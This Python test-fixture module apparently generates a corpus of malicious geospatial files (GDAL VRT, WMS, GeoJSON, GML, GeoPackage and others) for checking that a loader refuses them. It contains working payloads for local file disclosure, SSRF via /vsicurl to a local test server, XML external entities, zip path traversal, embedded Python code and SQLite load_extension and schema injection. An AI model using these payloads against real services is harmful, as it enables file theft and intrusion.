"""Rasters and vector files that try to read another file or to reach the network."""

# ruff: noqa: E501  (the attacks stay on one line)

import json
import sqlite3
import zipfile
from io import BytesIO
from pathlib import Path

HEAD = "<SRS>EPSG:4326</SRS><GeoTransform>0,1,0,2,0,-1</GeoTransform>"


def _vrt(source: str, *, raw: bool = False, kind: str = "SimpleSource") -> bytes:
    inner = (
        f'<VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand"><SourceFilename relativetoVRT="0">'
        f"{source}</SourceFilename><ImageOffset>0</ImageOffset><PixelOffset>1</PixelOffset><LineOffset>2</LineOffset>"
        "</VRTRasterBand>"
        if raw
        else f'<VRTRasterBand dataType="Float32" band="1"><{kind}><SourceFilename relativeToVRT="0">{source}'
        f'</SourceFilename><SourceBand>1</SourceBand><SrcRect xOff="0" yOff="0" xSize="2" ySize="2"/>'
        f'<DstRect xOff="0" yOff="0" xSize="2" ySize="2"/></{kind}></VRTRasterBand>'
    )
    return f'<VRTDataset rasterXSize="2" rasterYSize="2">{HEAD}{inner}</VRTDataset>'.encode()


def rasters(secret: Path, text: Path, port: int) -> dict[str, bytes]:
    """By what they are. `secret`: a raster, `text`: a text, of this machine; `port`: where a server counts."""
    url = f"http://127.0.0.1:{port}"
    curl = f"/vsicurl/{url}"
    wms = f"<Service name='%s'><ServerUrl>{url}/%s</ServerUrl><ImageFormat>image/png</ImageFormat></Service>"
    window = (
        "<DataWindow><UpperLeftX>-180</UpperLeftX><UpperLeftY>90</UpperLeftY><LowerRightX>180</LowerRightX>"
        "<LowerRightY>-90</LowerRightY><SizeX>4</SizeX><SizeY>4</SizeY><TileLevel>1</TileLevel></DataWindow>"
    )
    found = {
        f"vrt of {prefix}": _vrt(f"{prefix}{secret}")
        for prefix in (
            "",
            "/vsisubfile/0_9,",
            "/vsicached?file=",
            "/vsisparse/",
            "vrt://",
            "GTIFF_DIR:1:",
            "GTIFF_RAW:",
        )
    }
    found |= {
        f"vrt of {name}": _vrt(f"{name}{url}/x.tif")
        for name in ("/vsicurl/", "/vsicurl_streaming/", "/vsizip//vsicurl/", "/vsitar//vsicurl/", "/vsigzip//vsicurl/",
                     "/vsicached?file=/vsicurl/", "WCS:", "WMS:", "WMTS:", "STACTA:", "OGCAPI:", "")
    }  # fmt: skip
    found |= {
        "vrt with header_file": _vrt(f"/vsicurl?header_file={text}&amp;url={url}/x.tif"),
        "vrt with post fields": _vrt(f"/vsicurl?customrequest=POST&amp;url={url}/x.tif"),
        "vrt of an archive": _vrt(f"/vsis3/bucket/x.tif?{url}"),
        "raw vrt of a text": _vrt(str(text), raw=True),
        "raw vrt of a url": _vrt(f"{curl}/x", raw=True),
        "vrt complex": _vrt(str(secret), kind="ComplexSource"),
        "vrt averaged": _vrt(str(secret), kind="AveragedSource"),
        "vrt kernel": _vrt(str(secret), kind="KernelFilteredSource"),
        "vrt with white before it": b"\n\n  " + _vrt(str(secret)),
        "vrt with a byte order mark": b"\xef\xbb\xbf" + _vrt(str(secret)),
        "vrt of python": b'<VRTDataset rasterXSize="2" rasterYSize="2">'
        b'<VRTRasterBand dataType="Byte" band="1" subClass="VRTDerivedRasterBand"><PixelFunctionLanguage>Python'
        b"</PixelFunctionLanguage><PixelFunctionType>f</PixelFunctionType><PixelFunctionCode>"
        + f"def f(a,*b,**c):\n open({str(text)!r}).read()".encode()
        + b"</PixelFunctionCode></VRTRasterBand></VRTDataset>",
        "warped vrt": f'<VRTDataset rasterXSize="2" rasterYSize="2" subClass="VRTWarpedDataset">{HEAD}<GDALWarpOptions>'
        f'<SourceDataset relativeToVRT="0">{secret}</SourceDataset></GDALWarpOptions></VRTDataset>'.encode(),
        "pansharpened vrt": f'<VRTDataset subClass="VRTPansharpenedDataset"><PansharpeningOptions><PanchroBand>'
        f'<SourceFilename relativeToVRT="0">{secret}</SourceFilename><SourceBand>1</SourceBand></PanchroBand>'
        "</PansharpeningOptions></VRTDataset>".encode(),
        "processed vrt": f'<VRTDataset subClass="VRTProcessedDataset"><Input><SourceFilename relativeToVRT="0">{secret}'
        "</SourceFilename></Input></VRTDataset>".encode(),
        "multidimensional vrt": f'<VRTDataset><Group name="/"><Array name="a"><Source><SourceFilename>{secret}'
        "</SourceFilename></Source></Array></Group></VRTDataset>".encode(),
        "gti": f"<GDALTileIndexDataset><IndexDataset>{secret}</IndexDataset></GDALTileIndexDataset>".encode(),
        "gti of a url": f"<GDALTileIndexDataset><IndexDataset>{curl}/i.gpkg</IndexDataset></GDALTileIndexDataset>".encode(),
        "mrf": f'<MRF_META><Raster><Size x="2" y="2" c="1"/><DataFile>{secret}</DataFile><IndexFile>{text}</IndexFile>'
        "<Compression>NONE</Compression></Raster></MRF_META>".encode(),
        "mrf cache": f"<MRF_META><CachedSource><Source>{curl}/x.tif</Source></CachedSource><Raster>"
        '<Size x="2" y="2" c="1"/></Raster></MRF_META>'.encode(),
        "wmts": f"<GDAL_WMTS><GetCapabilitiesUrl>{url}/wmts</GetCapabilitiesUrl></GDAL_WMTS>".encode(),
        "wcs": f"<WCS_GDAL><ServiceURL>{url}/wcs?</ServiceURL><CoverageName>a</CoverageName></WCS_GDAL>".encode(),
        "til": f'bandId = "P";\nnumTiles = 1;\nBEGIN_GROUP = TILE_1\n filename = "{secret}";\nEND_GROUP\nEND;'.encode(),
        "envi header": f"ENVI\nsamples=2\nlines=2\nbands=1\ndata type=1\nfile = {text}\n".encode(),
        "pds4": f"<Product_Observational><File><file_name>{text}</file_name></File></Product_Observational>".encode(),
        "ers": f'DatasetHeader Begin\n DataFile = "{text}"\nRasterInfo Begin\nEnd\nDatasetHeader End'.encode(),
        "stac item": json.dumps({"type": "Feature", "stac_version": "1.0.0", "assets": {"a": {"href": url}}}).encode(),
        "svg": f'<svg><image href="{url}/x"/></svg>'.encode(),
        "html": f'<html><script src="{url}"/></html>'.encode(),
        "a name": str(secret).encode(),
        "a vsi name": f"{curl}/x.tif".encode(),
        "gdalg": json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal raster read {secret}"}).encode(),
        "kml overlay": f"<kml><GroundOverlay><Icon><href>{url}/x.png</href></Icon></GroundOverlay></kml>".encode(),
        "envisat": f"PRODUCT={secret}".encode(),
        "nitf": b"NITF02.10" + bytes(400),
        "hdf5": b"\x89HDF\r\n\x1a\n" + bytes(400),
        "netcdf": b"CDF\x01" + bytes(400),
        "grib": b"GRIB" + bytes(400),
        "pdf": b"%PDF-1.4\n" + f"/URI ({url})".encode(),
    }  # fmt: skip
    for service in ("WMS", "TMS", "TileService", "WorldWind", "VirtualEarth", "AGS", "IIP", "TiledWMS", "IIIF"):
        found[f"wms {service}"] = f"<GDAL_WMS>{wms % (service, '${z}')}{window}</GDAL_WMS>".encode()
    return found


def _gpkg(view: str) -> bytes:
    database = sqlite3.connect(":memory:")
    database.executescript(
        "PRAGMA application_id=1196444487; PRAGMA user_version=10300;"
        "CREATE TABLE gpkg_spatial_ref_sys(srs_name,srs_id INTEGER PRIMARY KEY,organization,organization_coordsys_id,"
        "definition,description); INSERT INTO gpkg_spatial_ref_sys VALUES('w',4326,'EPSG',4326,'x','');"
        "CREATE TABLE gpkg_contents(table_name PRIMARY KEY,data_type,identifier,description,last_change,min_x,min_y,"
        "max_x,max_y,srs_id); CREATE TABLE gpkg_geometry_columns(table_name,column_name,geometry_type_name,srs_id,z,m);"
        "INSERT INTO gpkg_contents VALUES('v','features','v','','2015-01-01T00:00:00Z',0,0,1,1,4326);"
        "INSERT INTO gpkg_geometry_columns VALUES('v','geom','GEOMETRY',4326,0,0);" + view
    )
    return database.serialize()


def vectors(secret: Path, text: Path, port: int) -> dict[str, bytes]:
    """Like `rasters`; `secret` is a vector file."""
    url = f"http://127.0.0.1:{port}"

    def vrt(source: str) -> bytes:
        return f'<OGRVRTDataSource><OGRVRTLayer name="z"><SrcDataSource>{source}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'.encode()

    box = {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 0]]]}
    one = {"type": "Feature", "id": "a", "properties": {"name": "/vsicurl/" + url}, "geometry": box}
    every = {"type": "FeatureCollection", "features": [one]}
    link = {"type": "link", "properties": {"href": f"{url}/crs", "type": "ogcwkt"}}
    named = {"type": "name", "properties": {"name": f"{url}/crs"}}
    twice = (
        '{"type":"FeatureCollection","crs":%s,"crs":{"type":"name","properties":{"name":"EPSG:4326"}},"features":[%s]}'
    )
    zipped = BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("a.vrt", vrt(str(secret)))
        archive.writestr("../../evil.shp", b"\0\0\x27\x0a")
    return {
        "vrt": vrt(str(secret)),
        "vrt of a url": vrt(f"/vsicurl/{url}/z.geojson"),
        "vrt with header_file": vrt(f"/vsicurl?header_file={text}&amp;url={url}/z"),
        "vrt of a wfs": vrt(f"WFS:{url}/wfs"),
        "vrt of a csv": vrt(f"CSV:{text}"),
        "wfs": f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>".encode(),
        "wfs capabilities": f'<WFS_Capabilities><Post href="{url}"/></WFS_Capabilities>'.encode(),
        "csw": f"<OGRCSWDataSource><URL>{url}</URL></OGRCSWDataSource>".encode(),
        "oapif": json.dumps({"links": [{"rel": "data", "href": url}], "collections": []}).encode(),
        "gml": f'<gml:FeatureCollection xmlns:xlink="x" xlink:href="{url}" xsi:schemaLocation="a {url}/a.xsd"/>'.encode(),
        "gml of an entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{text}">]><gml:FeatureCollection>&x;'
        "</gml:FeatureCollection>".encode(),
        "kml link": f"<kml><NetworkLink><Link><href>{url}</href></Link></NetworkLink></kml>".encode(),
        "georss": f'<rss><channel><link>{url}</link></channel></rss>'.encode(),
        "geojson with a link": json.dumps(every | {"crs": link}).encode(),
        "geojson with a named link": json.dumps(every | {"crs": named}).encode(),
        "geojson with a link in capitals": json.dumps(every | {"CRS": link}).encode(),
        "geojson with two": (twice % (json.dumps(link), json.dumps(one))).encode(),
        "geojson with a hidden link": json.dumps(every | {"crs": link}).replace('"crs"', '"\\u0063rs"').encode(),
        "geojson with a link in a shape": json.dumps(
            {"type": "FeatureCollection", "features": [one | {"geometry": box | {"crs": link}}]}
        ).encode(),
        "geojson with a file for crs": json.dumps(
            every | {"crs": {"type": "name", "properties": {"name": str(text)}}}
        ).encode(),
        "esri json": json.dumps({"geometryType": "esriGeometryPolygon", "features": [], "url": url}).encode(),
        "topojson": json.dumps({"type": "Topology", "objects": {}, "href": url}).encode(),
        "jsonfg": json.dumps({"type": "FeatureCollection", "conformsTo": [url], "features": [], "coordRefSys": url}).encode(),
        "stac": json.dumps({"type": "Catalog", "links": [{"href": url}]}).encode(),
        "csv": f"id,WKT\n1,{url}\n".encode(),
        "csvt": b'"WKT","String"\n',
        "a name": str(secret).encode(),
        "a vsi name": f"/vsicurl/{url}/z.geojson".encode(),
        "zip of a vrt": zipped.getvalue(),
        "gpkg with a pixel view": _gpkg(
            f"CREATE VIEW v AS SELECT 1 AS fid, gdal_get_pixel_value('{secret}',1,'georef',0,0) AS geom;"
        ),
        "gpkg with a geocoder": _gpkg(f"CREATE VIEW v AS SELECT 1 AS fid, ogr_geocode('{url}') AS geom;"),
        "gpkg with an extension": _gpkg(f"CREATE VIEW v AS SELECT 1 AS fid, load_extension('{text}') AS geom;"),
        "gpkg with another table": _gpkg(
            "PRAGMA writable_schema=1;INSERT INTO sqlite_master VALUES('table','v','v',0,"
            f"'CREATE VIRTUAL TABLE v USING VirtualOGR(''{secret}'')');"
        ),
        "sqlite": b"SQLite format 3\0" + bytes(200),
        "dxf": b"0\nSECTION\n" + str(text).encode(),
        "gpx": f'<gpx><link href="{url}"/></gpx>'.encode(),
        "mapml": f'<mapml><link href="{url}"/></mapml>'.encode(),
        "fgb": b"fgb\x03fgb\x01" + bytes(100),
        "parquet": b"PAR1" + bytes(100) + b"PAR1",
        "xlsx": b"PK\x03\x04" + bytes(100),
    }  # fmt: skip
